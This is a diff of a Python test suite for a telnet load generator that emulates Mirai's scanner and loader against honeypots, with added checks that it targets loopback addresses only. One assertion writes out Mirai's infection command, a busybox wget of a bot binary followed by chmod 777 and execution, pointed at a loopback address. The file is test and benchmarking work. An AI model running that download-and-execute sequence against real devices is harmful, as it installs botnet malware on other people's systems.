@@ -116,6 +116,14 @@ class BenchTelnetTest(unittest.TestCase):
         report = self.loadgen(harness.free_port(), 'scanner', 3, '-T', '2000')
         self.assertEqual(self.failures(report), {'connect.refused': 3}, report)
 
+    def test_only_loopback_targets(self):
+        for flag, value in (('-h', '192.0.2.1'), ('-w', '192.0.2.1:80')):
+            p = subprocess.run([self.loadgen_bin, '-p', '23', flag, value], stdin=subprocess.DEVNULL,
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=10)
+            self.assertEqual(p.returncode, 2, p.stderr)
+            self.assertIn('127.0.0.0/8', p.stderr)
+            self.assertEqual(p.stdout, '')
+
     # ---- the Python honeypot with the other honeypot's habits ----
 
     def test_scanner_and_loader_against_split_output_honeypot(self):
@@ -139,16 +147,34 @@ class BenchTelnetTest(unittest.TestCase):
         finally:
             hp.stop()
 
+    def test_loader_follows_mirais_upload_choice_when_asked(self):
+        """-U auto: with wget on the device, Mirai's loader fetches its binary with wget (from a
+        loopback address only; the fake fetches nothing) instead of echoing a dropper."""
+        hp = telnet_fakes.Honeypot(split=False, wget=True).start()
+        try:
+            report = self.loadgen(hp.port, 'loader', 2, '-D', '0', '-U', 'auto', '-w', '127.0.0.9:8080')
+        finally:
+            hp.stop()
+        self.assert_all_completed(report, 2)
+        self.assertEqual((report['mirai_upload.wget'], report['mirai_upload.echo']), ('2', '0'), report)
+        for sh in hp.shells:
+            self.assertIn('/bin/busybox wget http://127.0.0.9:8080/bins/mirai.mpsl -O - > dvrHelper; '
+                          '/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI', sh.commands)
+            self.assertIn('./dvrHelper telnet.mpsl; /bin/busybox IHCCE', sh.commands)
+
     def test_stalled_servers_fail_at_their_step(self):
-        cases = [  # (Honeypot arguments, mode, the step where sessions must fail)
-            (dict(stall='iacs'), 'scanner', 'iacs'),
-            (dict(opening='none'), 'scanner', 'iacs'),   # no option burst: Mirai never logs in
-            (dict(stall='password_prompt'), 'scanner', 'password_prompt'),
-            (dict(stall='shell_prompt'), 'loader', 'shell_prompt'),
-            (dict(stall_on='MIRAI'), 'scanner', 'token'),
-            (dict(stall_on='cat /bin/echo'), 'loader', 'detect_arch'),
+        cases = [  # (Honeypot arguments, mode, how sessions must fail)
+            (dict(stall='iacs'), 'scanner', 'iacs.timeout'),
+            (dict(opening='none'), 'scanner', 'iacs.timeout'),   # no option burst: no login
+            (dict(stall='password_prompt'), 'scanner', 'password_prompt.timeout'),
+            (dict(stall='shell_prompt'), 'loader', 'shell_prompt.timeout'),
+            (dict(stall_on='MIRAI'), 'scanner', 'token.timeout'),
+            (dict(stall_on='cat /bin/echo'), 'loader', 'detect_arch.timeout'),
+            # /bin/echo written in one 100 KB burst: the read that brings the ELF header fills
+            # the loader's 8 KiB buffer, where Mirai's loader stalls for good.
+            (dict(split=False, echo_size=100000), 'loader', 'detect_arch.buffer_full'),
         ]
-        for kwargs, mode, step in cases:
+        for kwargs, mode, failure in cases:
             with self.subTest(server=kwargs):
                 hp = telnet_fakes.Honeypot(**kwargs).start()
                 try:
@@ -156,7 +182,7 @@ class BenchTelnetTest(unittest.TestCase):
                 finally:
                     hp.stop()
                 self.assertEqual(report['completed'], '0', report)
-                self.assertEqual(self.failures(report), {step + '.timeout': 2}, report)
+                self.assertEqual(self.failures(report), {failure: 2}, report)
 
     # ---- a real BusyBox telnetd ----
 
